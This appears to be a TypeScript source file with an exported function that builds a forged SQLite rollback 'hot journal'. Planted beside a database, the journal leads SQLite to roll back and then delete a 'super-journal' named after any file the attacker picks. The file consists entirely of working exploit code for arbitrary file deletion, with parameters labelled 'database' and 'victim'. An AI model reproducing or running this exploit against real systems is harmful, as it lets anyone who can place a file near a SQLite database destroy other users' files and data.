/**
 * A hot journal, as somebody plants it beside a database that another opens: SQLite takes it for a transaction that was cut off,
 * rolls it back, and then deletes the super-journal that it names, whatever file that is
 * (https://www.sqlite.org/fileformat2.html#the_rollback_journal, https://www.sqlite.org/atomiccommit.html#multi_file_commit).
 */
import { readFileSync } from 'node:fs'

const MAGIC = Buffer.from('d9d505f920a163d7', 'hex')
const SECTOR_BYTES = 512
const PENDING_BYTE = 0x40000000

/** @param database the file it is to lie beside, @param victim the file that is deleted */
export function hotJournal(database: string, victim: string): Buffer {
  const bytes = readFileSync(database)
  const page = bytes.readUInt16BE(16)
  const header = Buffer.alloc(SECTOR_BYTES)
  MAGIC.copy(header)
  header.writeUInt32BE(bytes.length / page, 16)
  header.writeUInt32BE(SECTOR_BYTES, 20)
  header.writeUInt32BE(page, 24)
  const name = Buffer.from(victim)
  const record = Buffer.alloc(4 + name.length + 8)
  record.writeUInt32BE(PENDING_BYTE / page + 1)
  name.copy(record, 4)
  record.writeUInt32BE(name.length, 4 + name.length)
  record.writeUInt32BE(
    name.reduce((sum, byte) => sum + byte, 0),
    8 + name.length,
  )
  return Buffer.concat([header, record, MAGIC])
}
